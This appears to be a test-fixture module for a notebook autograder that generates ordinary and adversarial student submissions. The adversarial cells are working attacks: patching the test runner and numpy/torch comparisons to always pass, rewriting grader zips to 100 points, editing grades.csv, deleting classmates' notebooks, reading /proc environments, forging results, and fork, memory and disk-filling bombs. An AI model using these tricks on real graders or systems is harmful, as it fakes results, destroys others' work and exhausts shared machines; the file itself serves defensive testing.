"""Submissions for the grading tests: ordinary ones (correct, empty, broken) and ones written by a
student who wants marks without the work. Each builder takes the released solutions and handout
notebooks and returns a notebook; the cells below are what such a student would add."""

import nbformat


def edit(nb, starts_with, new_source):
    """Replace the source of the one cell that starts with ``starts_with``; delete it if None."""
    (i,) = [i for i, c in enumerate(nb.cells) if c.source.startswith(starts_with)]
    if new_source is None:
        del nb.cells[i]
    else:
        nb.cells[i].source = new_source(nb.cells[i].source)
    return nb


def append(nb, *sources):
    nb.cells += [nbformat.v4.new_code_cell(s) for s in sources]
    return nb


def after_imports(nb, source):
    """``nb`` with a cell of ``source`` right after its imports, where a patch takes effect before
    anything is checked (otter 7 ran the old in-kernel checks without cells appended at the end)."""
    i = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and c.source.startswith("import "))
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(source))
    return nb


# Swallows every exception, the per-cell time limit's included: only the limit on the whole
# submission stops it.
BUSY = "import time\nwhile True:\n    try:\n        time.sleep(100)\n    except BaseException:\n        pass\n"

# Otter's test runner: every check passes without running.
PATCH_RUNNER = """\
import otter.test_files.exception_test as _t
_t.test_case.call_func = lambda self, global_environment: None
"""

PATCH_NUMPY = """\
import numpy as np
np.isclose = np.allclose = np.all = np.isfinite = lambda *args, **kwargs: True
"""

PATCH_TORCH = """\
import torch
torch.allclose = lambda *args, **kwargs: True
"""

# Every command line and environment this process can see, to find the grader's files.
FIND = """\
import os

def _visible_arguments():
    found = []
    for pid in os.listdir("/proc"):
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as f:
                    found += [a.decode(errors="ignore") for a in f.read().split(b"\\0")]
            except OSError:
                pass
    return found

def _files_named(name, top="/tmp"):
    return [os.path.join(r, name) for r, _, files in os.walk(top) if name in files]
"""

# Rewrites every autograder it can find: each check returns at once; with points=True also worth
# 100 points each.
TAMPER = (
    FIND
    + """
import re, shutil, zipfile

def _tamper(points):
    for path in {a for a in _visible_arguments() if a.endswith(".zip") and os.path.isfile(a)}:
        with zipfile.ZipFile(path) as zf:
            files = {n: zf.read(n) for n in zf.namelist()}
        for n in files:
            if n.startswith("tests/"):
                text = re.sub(r"(def test_\\w+\\(.*\\):\\n)", r"\\1    return\\n", files[n].decode())
                if points:
                    text = re.sub(r"points=[0-9.]+", "points=100", text)
                files[n] = text.encode()
        with zipfile.ZipFile(path + ".new", "w") as zf:
            for n, data in files.items():
                zf.writestr(n, data)
        shutil.move(path + ".new", path)

_tamper(POINTS)
"""
)

# Overwrites a classmate's notebook and deletes another, wherever it finds them.
VANDAL = (
    FIND
    + """
for path in _files_named("zz_victim.ipynb"):
    with open(path, "w") as f:
        f.write("{}")
for path in _files_named("zz_victim2.ipynb"):
    os.remove(path)
"""
)

# Leaves a process that waits for grades.csv and gives this student full marks in it.
LINGER = (
    FIND
    + """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        deadline = time.time() + 120
        while time.time() < deadline:
            for path in _files_named("grades.csv"):
                with open(path) as f:
                    lines = f.read().splitlines()
                if lines and any(line.startswith("linger,") and ",0," in line for line in lines):
                    columns = lines[0].count(",") - 2
                    fixed = [("linger," + "9," * columns + "99,") if line.startswith("linger,") else line for line in lines]
                    with open(path, "w") as f:
                        f.write("\\n".join(fixed) + "\\n")
            time.sleep(0.2)
    os._exit(0)
"""
)

# Puts the text of every check it can find into an error message, which the old grader copied
# into the feedback; also records the source of every later cell (the grader's own code).
LEAK = (
    FIND
    + """
import zipfile
from IPython import get_ipython

_seen = []
get_ipython().events.register("pre_run_cell", lambda info: _seen.append(info.raw_cell))
_text = []
for path in {a for a in _visible_arguments() if a.endswith(".zip") and os.path.isfile(a)}:
    with zipfile.ZipFile(path) as zf:
        _text += [zf.read(n).decode() for n in zf.namelist() if n.startswith("tests/")]
_text += [open(p).read() for p in _files_named("checks.py", "/")[:3]]
raise RuntimeError("HIDDEN:" + " | ".join(_text).replace("\\n", " / "))
"""
)

# Looks for the grader's files on every command line it can see; answers Question 1 of assignment 1
# correctly only if it found them, so its score says whether it could.
SNOOP = (
    FIND
    + """
import numpy as np

_found = [a for a in _visible_arguments() if any(w in a for w in ("autograder", "solution", "checks", ".zip", "release"))]
if _found:
    from scipy.special import logsumexp
    from scipy.stats import multivariate_normal

    def log_likelihood(x, weights, means, covs):
        log_joint = np.stack(
            [np.log(w) + multivariate_normal.logpdf(x, m, c) for w, m, c in zip(weights, means, covs)], axis=-1
        ).reshape(len(x), len(weights))
        return float(logsumexp(log_joint, axis=1).sum())
"""
)

# Asks for 1 GiB at a time without touching it: the address-space limit stops it all the same,
# and the test does not take the shared machine's memory if the limit were missing.
MEMORY_BOMB = """\
import numpy as np
_hoard = []
while True:
    _hoard.append(np.empty(2**27))
"""

# Children keep forking, and sleep when they cannot, so that the bomb holds every process slot.
FORK_BOMB = """\
import os, time
try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
except OSError:
    pass
"""

# The forward pass returns its input as the "decoded" image: a perfect reconstruction for free.
COPY_FORWARD = 'return {"imgs": x.clamp(1e-3, 1 - 1e-3), "z": z, "mean": mean, "logvar": logvar}'


UNTRAINED = "model = VAE(64, [128, 64], 8)\nlosses = [44.0, 1.0]\n"  # in place of a2's training cell


def ordinary(solutions, handout, name):
    """Submissions by student that a fair grader scores by the work in them."""
    subs = {"correct": solutions(), "empty": handout()}
    if name == "a1_em_mixture":
        subs["raises"] = edit(solutions(), "def e_step", lambda s: "scale = np.lgosumexp(0)\n" + s)
        subs["loops"] = edit(solutions(), "weights_hat, means_hat", lambda s: "while True:\n    pass\n" + s)
        subs["deleted"] = edit(solutions(), "def m_step", None)
        subs["always_busy"] = edit(solutions(), "def log_likelihood", lambda s: BUSY + s)
    if name == "a2_vae_digits":  # the KL added instead of subtracted (pytorch/examples #824), untrained
        slip = edit(
            solutions(), "def elbo", lambda s: s.replace("reconstruction - gaussian_kl", "reconstruction + gaussian_kl")
        )
        subs["kl_sign"] = edit(slip, "torch.manual_seed(0)\nmodel", lambda s: UNTRAINED)
    if name == "a3_gaussian_kl":
        wrong_sign = "kl = (mu**2 + sigma**2 + sp.log(sigma**2) - 1) / 2\nkl"
        subs["wrong_sign"] = edit(solutions(), "kl = ", lambda s: wrong_sign)
    if name == "a4_iwae_beta":
        # exp of the log-weights, then the log of their mean: right until a log-weight is far from 0
        stable = "torch.logsumexp(log_w, dim=0) - math.log(log_w.shape[0])"
        subs["naive_exp"] = edit(
            solutions(), "def log_mean_exp", swap(stable, "torch.log(torch.exp(log_w).mean(dim=0))")
        )
        # beta on the reconstruction term, and the amortisation gap with the wrong sign
        wrong = edit(
            solutions(), "def rate_distortion", swap("(distortion + beta * rate)", "(beta * distortion + rate)")
        )
        subs["wrong_terms"] = edit(
            wrong, "def split_gap", swap("(refined_elbo - encoder_elbo)", "(encoder_elbo - refined_elbo)")
        )
    return subs


def swap(old, new):
    """An edit that replaces the text ``old``, which must be there, by ``new``."""

    def replace(source):
        assert old in source, old
        return source.replace(old, new)

    return replace


def attack(*sources):
    """A notebook of only these cells: the attacks below need nothing of the handout, and a short
    notebook keeps the test fast."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return append(nb, *sources)


def adversarial(solutions, handout, name):
    """Submissions by student that try to gain marks, or take them from others, without the work.

    ``zz_victim`` and ``zz_victim2`` are classmates' notebooks that others attack."""
    subs = {"zz_victim": attack("x = 1"), "zz_victim2": attack("x = 2")}
    subs["patch_runner"] = after_imports(handout(), PATCH_RUNNER)
    if name == "a1_em_mixture":
        subs["patch_numpy"] = after_imports(handout(), PATCH_NUMPY)
        subs["tamper_autograder"] = attack(TAMPER.replace("POINTS", "False"))
        subs["hundred_points"] = attack(TAMPER.replace("POINTS", "True"))
        subs["vandal"] = attack(VANDAL)
        subs["linger"] = attack(LINGER)
        subs["leak"] = attack(LEAK)
        subs["snoop"] = attack(SNOOP)
        subs["memory_bomb"] = attack(MEMORY_BOMB)
        subs["fork_bomb"] = attack(FORK_BOMB)
        subs["...ipynb"] = attack("x = 1")  # the file "...ipynb": its stem is ".."
        subs["=1+2"] = attack("x = 1")
        subs["@SUM(A1)"] = attack("x = 1")
    if name == "a2_vae_digits":
        subs["patch_torch"] = after_imports(handout(), PATCH_TORCH)
        copy = edit(solutions(), "class VAE", lambda s: s.replace(s[s.index('return {"imgs"') :], COPY_FORWARD + "\n"))
        subs["copy_forward"] = edit(copy, "torch.manual_seed(0)\nmodel", lambda s: UNTRAINED)
    return subs


def write(folder, subs):
    """Write each submission to ``folder/STUDENT.ipynb`` (``...ipynb`` as it is named)."""
    folder.mkdir(parents=True, exist_ok=True)
    for student, nb in subs.items():
        nbformat.write(nb, folder / (student if student.endswith(".ipynb") else f"{student}.ipynb"))


# ---------------------------------------------------------------------------------------------
# Attacks on the result channel, the inputs, the comparisons and the feedback (one cell each)

# Writes a results file with every answer the old grader read, and a forged answer line with every
# nonce-less shape it can think of to every descriptor it holds, then ends the interpreter.
FORGED_RESULTS = """\
import json, os
_forged = {"ll_standard": -0.9189385332046727, "r_1d": [[0.8807970779778823, 0.11920292202211769], [0.11920292202211769, 0.8807970779778823]]}
with open(".probe.json", "w") as _f:
    json.dump(_forged, _f)
for _fd in range(3, 64):
    for _line in (b"ready\\n", json.dumps({"nonce": "0" * 32, "results": _forged, "errors": []}).encode() + b"\\n"):
        try:
            os.write(_fd, _line)
        except OSError:
            pass
os._exit(0)
"""

# Hooks that run after every later cell and at exit, and a thread that keeps writing: each writes
# forged answers to the results file and to every descriptor.
POST_RUN_HOOK = """\
import atexit, json, os, threading, time
from IPython import get_ipython
_forged = json.dumps({"results": {"ll_standard": -0.9189385332046727}, "errors": []})
def _forge(*args):
    with open(".probe.json", "w") as f:
        f.write(_forged)
    for fd in range(3, 64):
        try:
            os.write(fd, _forged.encode() + b"\\n")
        except OSError:
            pass
get_ipython().events.register("post_run_cell", _forge)
atexit.register(_forge)
def _keep():
    while True:
        time.sleep(0.5)
threading.Thread(target=_keep, daemon=True).start()
"""

# Answers learnt by heart: right for the inputs the old checks fixed, wrong for any other.
CACHED_ANSWERS = """\
import numpy as np
def log_likelihood(x, weights, means, covs):
    return -0.9189385332046727 if np.asarray(x).size == 1 and abs(float(np.asarray(x).ravel()[0])) < 1 else -500000.9189385332
def e_step(x, weights, means, covs):
    near = 1 / (1 + np.exp(-2.0))
    n, k = len(x), len(weights)
    if (n, k) == (2, 2):
        return np.array([[near, 1 - near], [1 - near, near]])
    return np.full((n, k), 1 / k)
def m_step(x, r):
    return np.array([0.5, 0.5]), np.array([[1.0], [11.0]]), np.array([[[1.0]], [[1.0]]])
def run_em(x, weights, means, covs, n_iter):
    return weights, means, covs, list(np.linspace(-20.0, -10.0, n_iter + 1))
weights_hat, means_hat, history = np.full(3, 1 / 3), np.array([[-2.0, 0.0], [2.0, 1.0], [0.0, -2.5]]), list(np.linspace(-1e3, -9e2, 101))
"""

# Every function returns an object equal to everything, that converts to any number asked.
ALWAYS_EQUAL = """\
class _Yes(float):
    def __new__(cls, *args):
        return float.__new__(cls, 0.0)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __hash__(self): return 0
    def __array__(self, *args, **kwargs): raise TypeError
    def __len__(self): return 3
    def __iter__(self): return iter([self, self, self, self])
    def __getitem__(self, key): return self
    def tolist(self): return self
class _Equal:
    __eq__ = lambda self, other: True
    __float__ = lambda self: 0.0
    __getitem__ = lambda self, key: self
    tolist = lambda self: self
log_likelihood = e_step = m_step = run_em = lambda *args, **kwargs: _Equal()
weights_hat = means_hat = history = _Yes()
"""

# Exceptions whose class names carry text for the feedback, raised by a cell and by every check.
EXCEPTION_LEAK = """\
_Leak = type("LEAKED_the_hidden_checks_say_42", (Exception,), {})
ValueError = type("ValueError", (Exception,), {})  # a class of its own named like a built-in
def log_likelihood(*args):
    raise _Leak("HIDDEN: the checks")
def e_step(*args):
    raise type("LEAKED_e_step", (ArithmeticError,), {})()
raise _Leak("HIDDEN: a cell")
"""

# Reads every process's environment it can see (bwrap's first process is pid 1) and answers
# Question 1 correctly only if it saw any variable that the grader, not the sandbox, set.
ENVIRON_SNOOP = """\
import os
_sandbox = {"HOME", "PATH", "PYTHONPATH", "PYTHONDONTWRITEBYTECODE", "TMPDIR", "OMP_NUM_THREADS", "MKL_NUM_THREADS",
            "OPENBLAS_NUM_THREADS", "MPLBACKEND", "MPLCONFIGDIR", "IPYTHONDIR", "JUPYTER_RUNTIME_DIR",
            "JUPYTER_PLATFORM_DIRS", "PYDEVD_DISABLE_FILE_VALIDATION", "LANG", "PWD", "SHLVL", "_"}
_seen = set()
for _pid in ["1", "self", *os.listdir("/proc")]:
    try:
        with open(f"/proc/{_pid}/environ", "rb") as _f:
            _seen |= {v.split(b"=", 1)[0].decode(errors="ignore") for v in _f.read().split(b"\\0") if v}
    except OSError:
        pass
if _seen - _sandbox:
    import numpy as np
    from scipy.special import logsumexp
    from scipy.stats import multivariate_normal
    def log_likelihood(x, weights, means, covs):
        log_joint = np.stack([np.log(w) + multivariate_normal.logpdf(x, m, c) for w, m, c in zip(weights, means, covs)], axis=-1)
        return float(logsumexp(log_joint.reshape(len(x), len(weights)), axis=1).sum())
"""

# Fills /tmp, /dev/shm and the home folder; answers Question 1 if it could write over 1 GiB in all.
TMP_FILL = """\
import os
_written = 0
for _folder in ("/tmp", "/dev/shm", "."):
    for _k in range(64):
        try:
            with open(os.path.join(_folder, f"fill{_k}"), "wb") as _f:
                for _ in range(64):
                    _f.write(b"\\1" * 2**20)
                    _written += 2**20
        except OSError:
            break
if _written > 2**30:
    def log_likelihood(*args):
        return 0.0
"""

# a2: an encoder that remembers what it saw and a decoder that gives it back.
MEMORISING_DECODER = """\
_real_encode, _real_decode = VAE.encode, VAE.decode
def _encode(self, x):
    self._seen = x.detach().clone()
    return _real_encode(self, x)
def _decode(self, z):
    seen = getattr(self, "_seen", None)
    if seen is None:
        return _real_decode(self, z)
    flat = z.reshape(-1, z.shape[-1])
    reps = -(-flat.shape[0] // seen.shape[0])
    return seen.repeat(reps, 1)[: flat.shape[0]].clamp(1e-3, 1 - 1e-3).reshape(*z.shape[:-1], seen.shape[-1])
VAE.encode, VAE.decode = _encode, _decode
"""

# a2: a table of every binarised image of the public digits set: the encoder looks an image up
# and gives its number as a code, the decoder gives back the image of the nearest number.
LOOKUP_TABLE = """\
import numpy as _np
from sklearn.datasets import load_digits as _sk_digits
_public = (_sk_digits().data / 16.0 > 0.5).astype(_np.float32)
_index = {row.tobytes(): i for i, row in enumerate(_public)}
def _encode(self, x):
    rows = (x.detach().numpy() > 0.5).astype(_np.float32)
    ids = torch.tensor([float(_index.get(r.tobytes(), 0)) for r in rows])
    mean = torch.zeros(len(rows), self.latent_dim)
    mean[:, 0] = ids / 100.0
    return mean, torch.full_like(mean, -12.0)
def _decode(self, z):
    ids = (z[..., 0] * 100.0).round().clamp(0, len(_public) - 1).long()
    return torch.from_numpy(_public)[ids].clamp(0.02, 0.98)
VAE.encode, VAE.decode = _encode, _decode
"""

# a3: the integral left unevaluated and the log-ratio unexpanded, with sympy's printing, srepr and
# free symbols patched to show the finished forms the old text checks looked for.
PATCHED_PRINTING = """\
import sympy as sp
kl = sp.Integral(q * sp.log(q / p), (z, -sp.oo, sp.oo))
log_ratio = sp.log(q / p)
sp.srepr = lambda expr, **kw: "Add(Symbol('mu'), Symbol('sigma'))"
sp.Basic.free_symbols = property(lambda self: {sp.Symbol("mu", real=True), sp.Symbol("sigma", positive=True)})
sp.Basic.__str__ = lambda self: "mu**2/2 + sigma**2/2 - log(sigma) - 1/2"
"""
UNEVALUATED = """\
import sympy as sp
kl = sp.Integral(q * sp.log(q / p), (z, -sp.oo, sp.oo))
log_ratio = sp.log(q / p)
"""


def channel_attacks(solutions, handout, name):
    """The attacks on the result channel, the inputs, the comparisons and the feedback."""
    subs = {}
    if name == "a1_em_mixture":
        subs["forged_results"] = attack(FORGED_RESULTS)
        subs["post_run_hook"] = attack(POST_RUN_HOOK)
        subs["cached_answers"] = attack(CACHED_ANSWERS)
        subs["always_equal"] = attack(ALWAYS_EQUAL)
        subs["exception_leak"] = attack(EXCEPTION_LEAK)
        subs["environ_snoop"] = attack(ENVIRON_SNOOP)
        subs["tmp_fill"] = attack(TMP_FILL)
    if name == "a2_vae_digits":
        untrained = edit(solutions(), "torch.manual_seed(0)\nmodel", lambda s: "torch.manual_seed(0)\n" + UNTRAINED)
        subs["untrained"] = untrained
        subs["memorising_decoder"] = append(
            edit(solutions(), "torch.manual_seed(0)\nmodel", lambda s: "torch.manual_seed(0)\n" + UNTRAINED),
            MEMORISING_DECODER,
        )
        subs["lookup_table"] = append(
            edit(solutions(), "torch.manual_seed(0)\nmodel", lambda s: "torch.manual_seed(0)\n" + UNTRAINED),
            LOOKUP_TABLE,
        )
    if name == "a3_gaussian_kl":
        subs["unevaluated"] = append(solutions(), UNEVALUATED)
        subs["patched_printing"] = append(solutions(), PATCHED_PRINTING)
    return subs
